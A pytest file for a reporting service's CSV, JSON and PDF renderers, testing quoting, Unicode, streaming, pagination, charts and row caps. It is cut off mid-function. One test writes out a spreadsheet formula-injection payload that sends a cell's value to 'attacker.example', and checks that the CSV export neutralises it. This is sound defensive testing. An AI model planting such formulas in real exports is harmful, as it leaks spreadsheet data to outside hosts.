"""Renderers read back by real parsers: CSV by Python's csv module, JSON by orjson, PDF by pypdf (its text) and
pypdfium2 (its pages as images, checked not blank)."""

from __future__ import annotations

import csv
import io
import logging
from collections.abc import AsyncIterator, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any, Final
from zoneinfo import ZoneInfo

import orjson
import pypdf
import pypdfium2  # type: ignore[import-untyped]
import pytest

from gateway.errors import BadUserInput, ErrorCode
from gateway.reports.params import ReportType, params_from_json
from gateway.reports.render import (
    CORE_FONTS,
    UTF8_BOM,
    CsvHeader,
    ExportFormat,
    PdfFonts,
    PdfRowCapExceeded,
    check_pdf_rows,
    parse_json,
    pdf_rows,
    render_csv,
    render_json,
    render_pdf,
    stream_csv,
    stream_json,
    system_fonts,
)
from gateway.reports.render._format import display
from gateway.reports.render.pdf import BAR_COLOUR, _ticks
from gateway.reports.result import (
    Chart,
    ChartKind,
    Column,
    ColumnKind,
    ReportResult,
    Row,
    SummaryFigure,
    Table,
    chunks_of,
)
from gateway.reports.types import REGISTRY, call_detail_rows, run_report
from gateway.settings import DEFAULT_REPORT_PDF_MAX_ROWS, Settings
from tests.reports.conftest import TIMEZONE, Sessions

COLUMNS: Final = [
    Column("agent", "Agent"),
    Column("calls", "Calls", ColumnKind.INTEGER),
    Column("aht", "Handle time", ColumnKind.SECONDS),
    Column("conversion", "Conversion", ColumnKind.RATIO),
    Column("revenue", "Revenue", ColumnKind.MONEY),
    Column("day", "Day", ColumnKind.DATE),
    Column("last_call", "Last call", ColumnKind.DATETIME),
    Column("note", "Note"),
]
AWKWARD_ROWS: Final[list[Row]] = [
    ('Ana "the closer" Ruiz', 12, 245.0, 0.125, Decimal("1234.50"), date(2026, 3, 1),
     datetime(2026, 3, 1, 9, 30, tzinfo=UTC), "comma, inside"),
    ("Zoë Ødegård", 0, None, None, None, None, None, "line one\nline two\r\nline three"),
    ("李雷", -3, 3725.5, 1.0, Decimal("-0.75"), date(2026, 12, 31),
     datetime(2026, 12, 31, 23, 59, 59, tzinfo=timezone(timedelta(hours=-5))), ""),
]
DANGEROUS_PREFIXES: Final = ["=", "+", "-", "@", "\t", "\r"]
# Further tables, shaped like call analysis's `by_hour` and `outcomes`.
HOUR_COLUMNS: Final = [Column("hour", "Hour"), Column("calls", "Calls", ColumnKind.INTEGER),
                       Column("aht", "Handle time", ColumnKind.SECONDS),
                       Column("service_level", "Service level", ColumnKind.RATIO)]
OUTCOME_COLUMNS: Final = [Column("outcome", "Outcome"), Column("calls", "Calls", ColumnKind.INTEGER),
                          Column("share", "Share", ColumnKind.RATIO)]
OUTCOME_ROWS: Final[list[Row]] = [("connected", 7, 7 / 9), ("no_answer", 1, 1 / 9), ("abandoned", 1, 1 / 9),
                                  ("(none)", 0, 0.0)]


HOUR_JSON_COLUMNS: Final = [{"key": c.key, "title": c.title, "kind": c.kind.value} for c in HOUR_COLUMNS]


def hour_rows() -> list[Row]:
    """00:00 … 23:00, busiest at noon; no calls (and so no handle time) at 03:00."""
    return [(f"{hour:02d}:00", 0 if hour == 3 else 100 - abs(12 - hour) * 7, None if hour == 3 else 200.0 + hour,
             None if hour == 3 else hour / 23) for hour in range(24)]


def names(count: int) -> Iterator[str]:
    people = ["Zoë Ødegård", "李雷", "Ana María Ruiz", "Σωκράτης", "Иван Петров"]
    for number in range(count):
        yield f"{people[number % len(people)]} #{number}"


def agent_result(rows: int, *, charts: bool = True) -> ReportResult:
    """An agent-performance-like result with `rows` agents: the first is agent #0, the last agent #rows-1."""
    return ReportResult(
        title="Agent performance — March 2026",
        parameters=[("Range", "2026-03-01 – 2026-03-31"), ("Team", "North Star"), ("Timezone", "Europe/Oslo")],
        summary=[SummaryFigure("Calls", 123456, ColumnKind.INTEGER),
                 SummaryFigure("Average handle time", 245, ColumnKind.SECONDS),
                 SummaryFigure("Conversion", 0.1234, ColumnKind.RATIO),
                 SummaryFigure("Revenue", Decimal("98765.4"), ColumnKind.MONEY)],
        columns=COLUMNS,
        rows=[(name, 100 + number % 250, 200 + number * 37 % 400, number % 100 / 100,
               Decimal(number * 1337).scaleb(-2), date(2026, 3, 1 + number % 28),
               datetime(2026, 3, 1 + number % 28, 9, number % 60, tzinfo=UTC), "note " * (number % 4))
              for number, name in enumerate(names(rows))],
        charts=[Chart(ChartKind.BAR, "Calls per agent", "agent", ("calls",)),
                Chart(ChartKind.LINE, "Handle time", "agent", ("aht",))] if charts else [],
    )


def pdf_pages_text(data: bytes) -> list[str]:
    return [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages]


def pdf_lines(pages: Sequence[str]) -> list[str]:
    """The text's lines, trailing spaces dropped: a table row reads as its non-empty cells, space-separated."""
    return [line.rstrip() for page in pages for line in page.splitlines()]


def assert_in_order(lines: Sequence[str], expected: Sequence[str]) -> None:
    """Each expected line is a line of the text, each after the one before."""
    at = -1
    for line in expected:
        assert line in lines[at + 1:], f"{line!r} is not after line {at}"
        at = lines.index(line, at + 1)


def assert_every_page_has_ink(data: bytes) -> None:
    document = pypdfium2.PdfDocument(data)
    try:
        for number in range(len(document)):
            image = document[number].render(scale=1).to_pil().convert("L")
            # more than a footer's worth of non-white pixels
            assert image.width * image.height - image.histogram()[255] > 2000, f"page {number + 1} is blank"
    finally:
        document.close()


def parse_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


async def collect(chunks: AsyncIterator[bytes]) -> list[bytes]:
    return [chunk async for chunk in chunks]


# --- CSV ------------------------------------------------------------------------------------------------------


def test_csv_round_trips_quotes_commas_line_breaks_unicode_none_and_dates() -> None:
    # given
    result = ReportResult("t", [], [], COLUMNS, AWKWARD_ROWS)
    # when
    data = render_csv(result)
    # then
    assert parse_csv(data) == [
        ["Agent", "Calls", "Handle time", "Conversion", "Revenue", "Day", "Last call", "Note"],
        ['Ana "the closer" Ruiz', "12", "245.0", "0.125", "1234.50", "2026-03-01", "2026-03-01T09:30:00+00:00",
         "comma, inside"],
        ["Zoë Ødegård", "0", "", "", "", "", "", "line one\nline two\r\nline three"],
        ["李雷", "-3", "3725.5", "1.0", "-0.75", "2026-12-31", "2026-12-31T23:59:59-05:00", ""],
    ]
    assert data.startswith(b"Agent,Calls,")
    # RFC 4180: CRLF after every record, quotes doubled inside a quoted field.
    assert data.endswith(b"-0.75,2026-12-31,2026-12-31T23:59:59-05:00,\r\n")
    assert b'"Ana ""the closer"" Ruiz"' in data
    assert b'"line one\nline two\r\nline three"' in data
    assert data.count(b"\r\n") == 4 + 1  # four records, and the CRLF inside the third row's note


def test_csv_starts_with_a_bom_only_when_asked() -> None:
    result = ReportResult("t", [], [], COLUMNS, AWKWARD_ROWS)

    plain, excel = render_csv(result), render_csv(result, bom=True)

    assert not plain.startswith(UTF8_BOM)
    assert excel == UTF8_BOM + plain
    assert excel.decode("utf-8-sig") == plain.decode("utf-8")


def test_csv_header_is_titles_by_default_or_keys() -> None:
    result = ReportResult("t", [], [], COLUMNS, [])

    assert parse_csv(render_csv(result)) == [[column.title for column in COLUMNS]]
    assert parse_csv(render_csv(result, header=CsvHeader.KEYS)) == [[column.key for column in COLUMNS]]


@pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_csv_neutralises_text_that_would_run_as_a_formula(prefix: str) -> None:
    # given a text cell (and a header) starting with a character spreadsheets treat as a formula
    formula = f'{prefix}HYPERLINK("http://attacker.example/?"&A1,"click")'
    columns = [Column("name", f"{prefix}Name"), Column("calls", "Calls", ColumnKind.INTEGER)]
    result = ReportResult("t", [], [], columns, [(formula, 1)])
    # when
    header, row = parse_csv(render_csv(result))
    # then it is written with a leading single quote, as text
    assert header == [f"'{prefix}Name", "Calls"]
    assert row == [f"'{formula}", "1"]


def test_csv_leaves_real_negative_numbers_alone_but_neutralises_negative_looking_text() -> None:
    columns = [Column("delta", "Delta", ColumnKind.INTEGER), Column("ratio", "Ratio", ColumnKind.RATIO),
               Column("money", "Money", ColumnKind.MONEY), Column("seconds", "Seconds", ColumnKind.SECONDS),
               Column("label", "Label")]
    result = ReportResult("t", [], [], columns, [(-5, -0.25, Decimal("-1234.50"), -2.5, "-5"), (+7, 0.5, 0, 0, "+7")])

    _, first, second = parse_csv(render_csv(result))

    assert first == ["-5", "-0.25", "-1234.50", "-2.5", "'-5"]
    assert second == ["7", "0.5", "0", "0", "'+7"]
    assert float(first[0]) == -5
    assert float(first[2]) == -1234.5


def test_csv_holds_the_main_table_only() -> None:
    # given a result with further tables (and a chart drawn from one)
    main = ReportResult("Calls", [], [], HOUR_COLUMNS, hour_rows()[:2])
    full = replace(main, tables=[Table("outcomes", "Outcomes", OUTCOME_COLUMNS, OUTCOME_ROWS)],
                   charts=[Chart(ChartKind.BAR, "Outcomes", "outcome", ("calls",), table="outcomes")])
    # when
    data = render_csv(full)
    # then the file is the main table's: one header, its rows, nothing of the others
    assert data == render_csv(main)
    assert parse_csv(data) == [["Hour", "Calls", "Handle time", "Service level"],
                               ["00:00", "16", "200.0", "0.0"], ["01:00", "23", "201.0", str(1 / 23)]]


async def test_streaming_csv_of_100k_rows_is_the_same_as_the_in_memory_file() -> None:
    # given 100,000 generated rows, produced lazily for the stream
    count = 100_000

    def row(number: int) -> Row:
        return (f"agent, \"{number}\"", number, number * 1.5, number % 100 / 100, Decimal(number).scaleb(-2),
                date(2026, 1, 1) + timedelta(days=number % 365), None, "=SUM(A1)" if number % 7 == 0 else "")

    async def generated() -> AsyncIterator[Sequence[Row]]:
        for start in range(0, count, 5000):
            yield [row(number) for number in range(start, min(count, start + 5000))]

    # when
    chunks = await collect(stream_csv(COLUMNS, generated(), bom=True))
    whole = render_csv(ReportResult("t", [], [], COLUMNS, [row(number) for number in range(count)]), bom=True)
    # then
    assert len(chunks) == 1 + count // 5000
    assert b"".join(chunks) == whole
    parsed = parse_csv(whole[len(UTF8_BOM):])
    assert len(parsed) == 1 + count
    assert parsed[-1][:2] == [f'agent, "{count - 1}"', str(count - 1)]


async def test_streaming_csv_skips_empty_chunks_and_writes_just_the_header_for_no_rows() -> None:
    async def nothing() -> AsyncIterator[Sequence[Row]]:
        yield []

    assert await collect(stream_csv(COLUMNS[:2], nothing())) == [b"Agent,Calls\r\n"]


# --- JSON -----------------------------------------------------------------------------------------------------


def test_json_document_has_the_result_and_rows_keyed_by_column() -> None:
    result = ReportResult("Calls", [("Range", "March"), ("Team", "North")],
                          [SummaryFigure("Calls", 3, ColumnKind.INTEGER)], COLUMNS, AWKWARD_ROWS,
                          [Chart(ChartKind.BAR, "Calls", "agent", ("calls",))])

    document = orjson.loads(render_json(result))

    assert list(document) == ["title", "parameters", "summary", "columns", "charts", "rows", "tables"]
    assert document["title"] == "Calls"
    assert document["parameters"] == {"Range": "March", "Team": "North"}
    assert document["summary"] == [{"label": "Calls", "value": 3, "kind": "integer"}]
    assert document["columns"][3] == {"key": "conversion", "title": "Conversion", "kind": "ratio"}
    assert document["charts"] == [
        {"kind": "bar", "title": "Calls", "label": "agent", "values": ["calls"], "table": None}]
    assert document["tables"] == []
    assert document["rows"][0] == {
        "agent": 'Ana "the closer" Ruiz', "calls": 12, "aht": 245.0, "conversion": 0.125, "revenue": 1234.5,
        "day": "2026-03-01", "last_call": "2026-03-01T09:30:00+00:00", "note": "comma, inside"}
    assert document["rows"][1]["aht"] is None


def test_json_round_trips_to_the_same_result() -> None:
    # Money as a float: JSON numbers are what BI tools read; a Decimal comes back as the float it was written as.
    rows: list[Row] = [(*row[:4], float(row[4]) if isinstance(row[4], Decimal) else None, *row[5:])
                       for row in AWKWARD_ROWS]
    result = ReportResult("Agent performance", [("Range", "2026-03")],
                          [SummaryFigure("Since", date(2026, 3, 1), ColumnKind.DATE),
                           SummaryFigure("Conversion", 0.5, ColumnKind.RATIO)],
                          COLUMNS, rows, [Chart(ChartKind.LINE, "Handle time", "day", ("aht", "calls")),
                                          Chart(ChartKind.BAR, "By hour", "hour", ("calls",), table="by_hour")],
                          [Table("by_hour", "Calls by hour", HOUR_COLUMNS, hour_rows()),
                           Table("empty", "Nothing", [Column("day", "Day", ColumnKind.DATE)], [])])

    assert parse_json(render_json(result)) == result


async def test_streamed_json_concatenates_to_the_same_document() -> None:
    # given a result with further tables, and its head (everything but the main table's rows), as stored
    full = agent_result(2500)
    full.tables = [Table("by_hour", "Calls by hour", HOUR_COLUMNS, hour_rows()),
                   Table("outcomes", "Outcomes", OUTCOME_COLUMNS, OUTCOME_ROWS)]
    head = replace(full, rows=[])

    streamed = b"".join(await collect(stream_json(head, chunks_of(full.rows, 1000))))

    assert streamed == render_json(full)
    assert len(orjson.loads(streamed)["rows"]) == 2500
    assert [t["key"] for t in orjson.loads(streamed)["tables"]] == ["by_hour", "outcomes"]
    assert b"".join(await collect(stream_json(full))) == render_json(full)
    assert orjson.loads(b"".join(await collect(stream_json(head))))["rows"] == []


def test_json_holds_the_further_tables_and_the_table_each_chart_is_drawn_from() -> None:
    result = ReportResult("Call analysis", [], [], HOUR_COLUMNS[:2], [("09:00", 3)],
                          [Chart(ChartKind.LINE, "Calls", "hour", ("calls",)),
                           Chart(ChartKind.BAR, "Outcomes", "outcome", ("calls", "share"), table="outcomes")],
                          [Table("outcomes", "Outcomes", OUTCOME_COLUMNS, OUTCOME_ROWS[:2]),
                           Table("empty", "Nothing", [Column("day", "Day", ColumnKind.DATE)], [])])

    document = orjson.loads(render_json(result))

    assert [chart["table"] for chart in document["charts"]] == [None, "outcomes"]
    assert document["tables"] == [
        {"key": "outcomes", "title": "Outcomes",
         "columns": [{"key": "outcome", "title": "Outcome", "kind": "text"},
                     {"key": "calls", "title": "Calls", "kind": "integer"},
                     {"key": "share", "title": "Share", "kind": "ratio"}],
         "rows": [{"outcome": "connected", "calls": 7, "share": 7 / 9},
                  {"outcome": "no_answer", "calls": 1, "share": 1 / 9}]},
        {"key": "empty", "title": "Nothing", "columns": [{"key": "day", "title": "Day", "kind": "date"}], "rows": []}]
    assert parse_json(render_json(result)) == result


def test_parse_json_reads_a_document_written_before_results_had_further_tables() -> None:
    document = orjson.dumps({"title": "Old", "parameters": {}, "summary": [], "columns": HOUR_JSON_COLUMNS[:1],
                             "charts": [{"kind": "bar", "title": "C", "label": "hour", "values": ["hour"]}],
                             "rows": [{"hour": "09:00"}]})

    assert parse_json(document) == ReportResult("Old", [], [], HOUR_COLUMNS[:1], [("09:00",)],
                                                [Chart(ChartKind.BAR, "C", "hour", ("hour",))])


# --- PDF ------------------------------------------------------------------------------------------------------


def test_pdf_shows_title_parameters_summary_and_the_first_and_last_rows() -> None:
    # given
    result = agent_result(60)
    # when
    data = render_pdf(result, max_rows=DEFAULT_REPORT_PDF_MAX_ROWS)
    # then
    assert data.startswith(b"%PDF-")
    pages = pdf_pages_text(data)
    text = "\n".join(pages)
    assert "Agent performance — March 2026" in pages[0]
    assert "North Star" in pages[0]
    assert "Europe/Oslo" in pages[0]
    assert "123,456" in pages[0]
    assert "4:05" in pages[0]
    assert "12.34%" in pages[0]
    assert "98,765.40" in pages[0]
    assert "Calls per agent" in text
    assert "Zoë Ødegård #0" in text
    assert "Иван Петров #59" in pages[-1]
    assert f"page {len(pages)} of {len(pages)}" in pages[-1]


def test_pdf_formats_numbers_per_column_kind() -> None:
    result = ReportResult("Formats", [], [], COLUMNS, AWKWARD_ROWS)

    text = "\n".join(pdf_pages_text(render_pdf(result, max_rows=10)))

    assert "12.5%" in text
    assert "100%" in text
    assert "4:05" in text
    assert "1:02:06" in text
    assert "1,234.50" in text
    assert "-0.75" in text
    assert "2026-03-01 09:30 +00:00" in text
    assert "2026-12-31 23:59 -05:00" in text


def test_long_table_paginates_with_the_header_on_every_page_and_keeps_the_last_row() -> None:
    # given
    result = agent_result(2000, charts=False)
    # when
    pages = pdf_pages_text(render_pdf(result, max_rows=DEFAULT_REPORT_PDF_MAX_ROWS))
    # then
    assert len(pages) > 1
    assert "Иван Петров #1999" in pages[-1]
    for page in pages[1:]:
        assert "Agent" in page
        assert "Handle time" in page
        assert "Conversion" in page
        assert "Last call" in page
    assert f"page 2 of {len(pages)}" in pages[1]
    # every row is there, in order: each has its own revenue
    text = "\n".join(pages)
    positions = [text.find(f" {number * 1337 / 100:,.2f} ") for number in range(2000)]
    assert -1 not in positions
    assert positions == sorted(positions)


def test_every_page_has_ink_and_the_chart_page_has_bars_of_the_bar_colour() -> None:
    # given a report of several pages with a bar chart on the first
    data = render_pdf(agent_result(300), max_rows=DEFAULT_REPORT_PDF_MAX_ROWS)
    document = pypdfium2.PdfDocument(data)
    try:
        assert len(document) > 3
        for number in range(len(document)):
            # when each page is rendered to an image
            image = document[number].render(scale=1).to_pil().convert("RGB")
            # then it is not blank (more than a footer's worth of non-white pixels)
            histogram = image.convert("L").histogram()
            non_white = image.width * image.height - histogram[255]
            assert non_white > 2000, f"page {number + 1} is blank"
            if number == 0:
                colours = {colour: count for count, colour in image.getcolors(image.width * image.height)}
                assert colours.get(BAR_COLOUR, 0) > 5000
    finally:
        document.close()


def test_long_cell_text_is_cut_with_an_ellipsis_in_the_pdf_but_whole_in_the_csv() -> None:
    note = "word " * 200 + "THE-END"
    result = ReportResult("Notes", [], [], [Column("agent", "Agent"), Column("note", "Note")], [("Zoë", note)])

    text = "\n".join(pdf_pages_text(render_pdf(result, max_rows=10)))

    assert "…" in text
    assert "THE-END" not in text
    assert parse_csv(render_csv(result))[1][1] == note


def test_unicode_names_are_drawn_or_shown_as_question_marks_never_dropped(caplog: pytest.LogCaptureFixture) -> None:
    # given names in Latin, Greek, Cyrillic and Chinese
    result = ReportResult("Zoë Ødegård and 李雷", [("Agent", "李雷")], [], [Column("agent", "Agent")],
                          [("Zoë Ødegård",), ("李雷",), ("Σωκράτης",), ("Иван",)])
    fonts = system_fonts()
    assert fonts.regular is not None, "DejaVu Sans (Debian: fonts-dejavu-core) is part of the base image"
    # when
    with caplog.at_level(logging.WARNING, logger="fpdf"):
        system = "\n".join(pdf_pages_text(render_pdf(result, max_rows=10)))
        dejavu_only = "\n".join(pdf_pages_text(render_pdf(result, max_rows=10,
                                                          fonts=PdfFonts(fonts.regular, fonts.bold))))
        core = "\n".join(pdf_pages_text(render_pdf(result, max_rows=10, fonts=CORE_FONTS)))
    # then no glyph went missing silently
    assert not [record for record in caplog.records if "missing" in record.getMessage()]
    for text in (system, dejavu_only):
        assert "Zoë Ødegård" in text
        assert "Σωκράτης" in text
        assert "Иван" in text
    # 李雷 is drawn when a CJK font is installed (Debian: fonts-droid-fallback), else shown as ??
    assert ("李雷" if fonts.fallbacks else "??") in system
    assert "李雷" not in dejavu_only
    assert "??" in dejavu_only
    # the core fonts have Latin-1: Zoë Ødegård survives, the rest become ?
    assert "Zoë Ødegård" in core
    assert "Σωκράτης" not in core
    assert "????????" in core
    assert "??" in core


@pytest.mark.skipif(not system_fonts().fallbacks, reason="no CJK font installed (Debian: fonts-droid-fallback)")
def test_cjk_names_are_drawn_with_the_fallback_font() -> None:
    result = ReportResult("李雷的报告", [], [SummaryFigure("最佳", "李雷", ColumnKind.TEXT)],
                          [Column("agent", "坐席"), Column("calls", "Calls", ColumnKind.INTEGER)],
                          [("李雷", 3), ("韩梅梅", 4)], [Chart(ChartKind.BAR, "通话", "agent", ("calls",))])

    text = "\n".join(pdf_pages_text(render_pdf(result, max_rows=10)))

    assert "李雷的报告" in text
    assert "韩梅梅" in text
    assert "坐席" in text
    assert "??" not in text


def test_an_empty_result_still_renders_a_page_that_says_so() -> None:
    result = ReportResult("Nothing yet", [], [], COLUMNS, [], [Chart(ChartKind.BAR, "Calls", "agent", ("calls",))])

    data = render_pdf(result, max_rows=10)

    pages = pdf_pages_text(data)
    assert len(pages) == 1
    assert "Nothing yet" in pages[0]
    assert "No rows." in pages[0]
    assert "0 rows" in pages[0]


def test_pdf_draws_each_further_table_under_its_title_after_the_main_table() -> None:
    # given a result whose further tables are calls by hour, outcomes and an empty one, and a chart of one of them
    result = agent_result(60)
    result.tables = [Table("by_hour", "Calls by hour of the day", HOUR_COLUMNS, hour_rows()),
                     Table("outcomes", "Outcomes", OUTCOME_COLUMNS, OUTCOME_ROWS),
                     Table("nothing", "Nothing here", OUTCOME_COLUMNS, [])]
    result.charts.append(Chart(ChartKind.BAR, "Hourly volume", "hour", ("calls",), table="by_hour"))
    # when
    data = render_pdf(result, max_rows=DEFAULT_REPORT_PDF_MAX_ROWS)
    # then each comes after the main table's last row, in order, under its title, with its header and every row
    lines = pdf_lines(pdf_pages_text(data))
    assert_in_order(lines, [
        "60 rows", "Иван Петров #59 159 6:23 59% 788.83 2026-03-04 2026-03-04 09:59 +00:00 note note note",
        "Calls by hour of the day", "Hour Calls Handle time Service level", "00:00 16 3:20 0%",
        "03:00 0", "12:00 100 3:32 52.17%", "23:00 23 3:43 100%",
        "Outcomes", "Outcome Calls Share", "connected 7 77.78%", "(none) 0 0%",
        "Nothing here", "Outcome Calls Share", "No rows."])
    assert "Hourly volume" in lines
    assert_every_page_has_ink(data)


def test_a_long_further_table_paginates_with_its_header_on_every_page() -> None:
    # given a short main table and a further table of 150 rows
    slots: list[Row] = [(f"slot {n}", n, 60.0 * n, n / 150) for n in range(150)]
    result = replace(agent_result(3, charts=False), tables=[Table("slots", "Slots", HOUR_COLUMNS, slots)])
    # when
    pages = pdf_pages_text(render_pdf(result, max_rows=DEFAULT_REPORT_PDF_MAX_ROWS))
    # then every page after the table's first repeats its header, and every row is there in order
    first = next(number for number, page in enumerate(pages) if "Slots" in page.splitlines())
    assert len(pages) - first >= 3
    for page in pages[first + 1:]:
        assert "Hour Calls Handle time Service level" in page.splitlines()
    lines = pdf_lines(pages)
    positions = [lines.index(f"slot {n} {n:,} {display(60.0 * n, ColumnKind.SECONDS)} "
                             f"{display(n / 150, ColumnKind.RATIO)}") for n in range(150)]
    assert positions == sorted(positions)
    assert "slot 149 149 2:29:00 99.33%" in pdf_lines(pages[-1:])


def test_a_chart_is_drawn_from_the_further_table_it_names() -> None:
    # given a main table with no rows and a bar chart of a further table
    result = ReportResult("Hours", [], [], HOUR_COLUMNS, [],
                          [Chart(ChartKind.BAR, "Calls by hour", "hour", ("calls",), table="by_hour")],
                          [Table("by_hour", "Calls by hour of the day", HOUR_COLUMNS, hour_rows())])
    # when
    data = render_pdf(result, max_rows=100)
    # then the chart has the further table's bars and labels
    document = pypdfium2.PdfDocument(data)
    try:
        image = document[0].render(scale=1).to_pil().convert("RGB")
        colours = {colour: count for count, colour in image.getcolors(image.width * image.height)}
        assert colours.get(BAR_COLOUR, 0) > 5000
    finally:
        document.close()
    first = pdf_pages_text(data)[0]
    assert "Calls by hour" in first
    assert "12:00" in first
    assert "0 rows" in first


def test_a_chart_naming_a_table_or_column_the_result_lacks_is_a_value_error() -> None:
    table = Table("by_hour", "Calls by hour", HOUR_COLUMNS, hour_rows())
    no_table = ReportResult("t", [], [], COLUMNS, [], [Chart(ChartKind.BAR, "Lost", "hour", ("calls",), "by_day")])
    no_column = ReportResult("t", [], [], COLUMNS, [], [Chart(ChartKind.BAR, "Lost", "hour", ("agent",), "by_hour")],
                             [table])

    with pytest.raises(ValueError, match="names table 'by_day'"):
        render_pdf(no_table, max_rows=100)
    with pytest.raises(ValueError, match="names column 'agent', which table 'by_hour' does not have"):
        render_pdf(no_column, max_rows=100)


def test_the_pdf_row_cap_counts_the_further_tables_rows_too() -> None:
    # given 3 rows in the main table and 4 in a further one
    result = ReportResult("Cap", [], [], OUTCOME_COLUMNS, OUTCOME_ROWS[:3], [],
                          [Table("outcomes", "Outcomes", OUTCOME_COLUMNS, OUTCOME_ROWS)])
    assert pdf_rows(result) == 7
    # when / then
    with pytest.raises(PdfRowCapExceeded) as raised:
        render_pdf(result, max_rows=6)
    assert (raised.value.rows, raised.value.limit) == (7, 6)
    assert render_pdf(result, max_rows=7).startswith(b"%PDF-")


def test_pdf_over_the_row_cap_is_refused_before_any_rendering() -> None:
    # given more rows than the cap, and a chart naming a column that does not exist: rendering would fail
    result = agent_result(11)
    result.charts.append(Chart(ChartKind.BAR, "Broken", "agent", ("no_such_column",)))
    with pytest.raises(ValueError, match="no_such_column"):
        render_pdf(result, max_rows=11)
    # when / then
    with pytest.raises(PdfRowCapExceeded) as raised:
        render_pdf(result, max_rows=10)
    error = raised.value
    assert isinstance(error, BadUserInput)
    assert error.code is ErrorCode.BAD_USER_INPUT
    assert error.extensions == {"reason": "pdf_row_cap", "rows": 11, "limit": 10, "format": "PDF", "use": "CSV"}
    assert "CSV" in error.message
    assert "11" in error.message
    assert "10" in error.message
    check_pdf_rows(10, max_rows=10)
    with pytest.raises(PdfRowCapExceeded):
        check_pdf_rows(5001, max_rows=DEFAULT_REPORT_PDF_MAX_ROWS)


def test_the_pdf_row_cap_is_configured_by_its_variable() -> None:
    assert Settings.from_env({}).report_pdf_max_rows == DEFAULT_REPORT_PDF_MAX_ROWS == 5000
    assert Settings.from_env({"CALLPULSE_REPORT_PDF_MAX_ROWS": "200"}).report_pdf_max_rows == 200


def test_display_formats() -> None:
    assert display(1234567, ColumnKind.INTEGER) == "1,234,567"
    assert display(0.0005, ColumnKind.RATIO) == "0.05%"
    assert display(59.6, ColumnKind.SECONDS) == "1:00"
    assert display(-65, ColumnKind.SECONDS) == "-1:05"
    assert display(timedelta(minutes=3, seconds=7), ColumnKind.SECONDS) == "3:07"
    assert display(Decimal("2"), ColumnKind.MONEY) == "2.00"
    assert display(2.5, ColumnKind.NUMBER) == "2.5"
    assert display(3.0, ColumnKind.NUMBER) == "3"
    assert display(None, ColumnKind.MONEY) == "—"
    assert display("n/a", ColumnKind.RATIO) == "n/a"
    assert display(datetime(2026, 3, 1, 9, 5), ColumnKind.DATETIME) == "2026-03-01 09:05"


def test_export_formats_name_their_media_types() -> None:
    assert [(f.value, f.media_type, f.extension) for f in ExportFormat] == [
        ("json", "application/json", ".json"), ("csv", "text/csv; charset=utf-8", ".csv"),
        ("pdf", "application/pdf", ".pdf")]


def test_fonts_found_here_are_files() -> None:
    fonts = system_fonts()
    for path in (fonts.regular, fonts.bold, *fonts.fallbacks):
        assert path is None or Path(path).is_file()


def test_chart_ticks_are_round_and_whole_for_counts_and_durations() -> None:
    assert _ticks(-4, 7, whole=True) == [-5, 0, 5, 10]
    assert _ticks(0, 1, whole=True) == [0, 1]
    assert _ticks(0, 598, whole=True) == [0, 200, 400, 600]
    ratios = _ticks(0, 0.93, whole=False)
    assert [round(tick, 6) for tick in ratios] == [0, 0.2, 0.4, 0.6, 0.8, 1.0]


def test_a_table_wider_than_the_page_shrinks_its_font_and_still_shows_every_row() -> None:
    columns = [Column("agent", "Agent"), *(Column(f"m{n}", f"Metric {n}", ColumnKind.INTEGER) for n in range(30))]
    rows: list[Row] = [(f"agent {r}", *(r * 1000 + n for n in range(30))) for r in range(40)]

    pages = pdf_pages_text(render_pdf(ReportResult("Wide", [], [], columns, rows), max_rows=100))

    text = "\n".join(pages)
    assert "agent 0" in text
    assert "agent 39" in pages[-1]


# --- the values the report types produce, in every format ----------------------------------------------------

BERLIN: Final = ZoneInfo("Europe/Berlin")


class Value:
    """One value as a report type produces it (the column kind it comes in) and as each format writes it."""

    def __init__(self, kind: ColumnKind, value: object, csv: str, json: object, pdf: str, parsed: Any = None) -> None:
        self.kind, self.value, self.csv, self.json, self.pdf = kind, value, csv, json, pdf
        # What parse_json gives back: the value itself, except money held as a Decimal, which comes back a float.
        self.parsed = value if parsed is None else parsed


VALUES: Final = {
    # a local day (DAY, WEEK, MONTH buckets; points per day)
    "date": Value(ColumnKind.DATE, date(2026, 3, 2), "2026-03-02", "2026-03-02", "2026-03-02"),
    # a local hour (HOUR buckets): aware, in the tenant's zone, before and after the DST change
    "datetime-aware-local": Value(ColumnKind.DATETIME, datetime(2026, 3, 2, 9, 0, tzinfo=BERLIN),
                                  "2026-03-02T09:00:00+01:00", "2026-03-02T09:00:00+01:00", "2026-03-02 09:00 +01:00"),
    "datetime-aware-local-summer-time": Value(
        ColumnKind.DATETIME, datetime(2026, 3, 29, 3, 0, tzinfo=BERLIN), "2026-03-29T03:00:00+02:00",
        "2026-03-29T03:00:00+02:00", "2026-03-29 03:00 +02:00"),
    # call detail's start: tenant-local wall time, naive
    "datetime-naive-local": Value(ColumnKind.DATETIME, datetime(2026, 3, 2, 0, 30), "2026-03-02T00:30:00",
                                  "2026-03-02T00:30:00", "2026-03-02 00:30"),
    # call detail's cost: numeric(…, 4) read as a Decimal
    "decimal": Value(ColumnKind.MONEY, Decimal("0.1000"), "0.1000", 0.1, "0.10", parsed=0.1),
    "decimal-negative": Value(ColumnKind.MONEY, Decimal("-1234.5000"), "-1234.5000", -1234.5, "-1,234.50",
                              parsed=-1234.5),
    # metrics: ratios, seconds, money and plain numbers as floats
    "float-ratio": Value(ColumnKind.RATIO, 7 / 9, "0.7777777777777778", 7 / 9, "77.78%"),
    "float-seconds": Value(ColumnKind.SECONDS, 740 / 3, "246.66666666666666", 740 / 3, "4:07"),
    "float-money": Value(ColumnKind.MONEY, 153.0, "153.0", 153.0, "153.00"),
    "float-number": Value(ColumnKind.NUMBER, 87.5, "87.5", 87.5, "87.5"),
    # counts, and call detail's whole seconds
    "int": Value(ColumnKind.INTEGER, 1234, "1234", 1234, "1,234"),
    "int-seconds": Value(ColumnKind.SECONDS, 360, "360", 360, "6:00"),
    # no value: a ratio of nothing, a call never answered
    "none-ratio": Value(ColumnKind.RATIO, None, "", None, ""),
    "none-datetime": Value(ColumnKind.DATETIME, None, "", None, ""),
}


def value_result(case: Value) -> ReportResult:
    """The value as a summary figure, in the main table and in a further table."""
    columns = [Column("where", "Where"), Column("value", "Value", case.kind)]
